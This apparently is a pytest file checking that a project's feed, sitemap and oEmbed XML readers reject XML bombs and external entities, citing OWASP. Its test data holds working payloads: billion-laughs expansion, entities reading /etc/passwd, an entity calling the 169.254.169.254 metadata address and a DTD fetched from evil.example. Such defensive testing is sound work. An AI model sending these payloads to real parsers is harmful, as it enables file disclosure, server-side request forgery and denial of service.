"""XML bombs and foreign entities: whatever reads XML refuses them at once, and reads no file and asks no host for them.

https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html
"""

from __future__ import annotations

import time

import pytest

from samara.core.errors import SamaraError
from samara.reading import embed, feed, sitemap

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "a billion laughs": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><{{root}}>&l9;</{{root}}>',
    "one long entity": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><{{root}}>{"&a;" * 50_000}</{{root}}>',
    "a file": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><{root}><title>&f;</title></{root}>',
    "a host": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY h SYSTEM "http://169.254.169.254/">]><{root}><title>&h;</title></{root}>',
    "a parameter": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><{root}/>',
    "a foreign type": '<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "file:///etc/passwd"><{root}/>',
    "ten thousand deep": "<{root}>" + "<a>" * 10_000,
    "a hundred thousand attributes": "<{root} " + " ".join(f'a{n}="x"' for n in range(100_000)) + "/>",
}
READERS = {
    "feed": (lambda data: feed.read(data, "https://example.org/feed"), "feed"),
    "sitemap": (lambda data: sitemap.read(data, "https://example.org/sitemap.xml", 1_000), "urlset"),
    "embed": (embed.read, "oembed"),
}


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("bomb", BOMBS)
def test_bomb_does_no_harm(reader, bomb):
    read, root = READERS[reader]
    before = time.process_time()
    try:
        found = repr(read(BOMBS[bomb].replace("{root}", root).encode()))
    except SamaraError as error:
        found = str(error)
    assert time.process_time() - before < 2
    assert len(found) < 100_000
    assert "root:" not in found
    assert "haha" not in found
